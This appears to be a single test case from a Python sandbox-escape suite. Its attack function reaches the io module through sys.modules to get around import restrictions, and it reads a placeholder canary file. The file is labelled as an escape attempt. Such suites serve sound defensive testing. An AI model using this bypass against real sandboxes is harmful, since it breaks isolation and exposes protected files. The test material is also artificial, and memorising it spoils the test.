# desc: sys.modules holds all that was ever imported
# class: escape
# wins: told
import sys

def attack(state):
    return "L2:" + sys.modules["io"].open("@CANARY@").read()
